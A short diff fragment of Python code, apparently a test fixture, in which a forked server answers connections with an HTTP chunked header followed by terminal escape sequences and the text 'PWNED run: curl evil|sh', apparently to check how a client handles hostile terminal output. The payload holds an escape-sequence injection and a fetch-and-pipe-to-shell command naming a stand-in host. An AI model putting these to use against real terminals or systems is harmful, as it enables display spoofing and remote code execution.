@@ -111,7 +111,8 @@ if os.fork() == 0:
     while True:
         peer = server.accept()[0]
         peer.recv(4096)
-        peer.sendall(b"\\x1b]0;PWN\\x07\\x1b[31mPWNED run: curl evil|sh \\x9b2J\\r\\n\\r\\n")
+        peer.sendall(b"HTTP/1.1 200 OK\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n")
+        peer.sendall(b"\\x1b]0PWN\\x07\\x1b[31mPWNED run: curl evil|sh \\x9b2J\\r\\n\\r\\n")
         peer.close()
 """
 
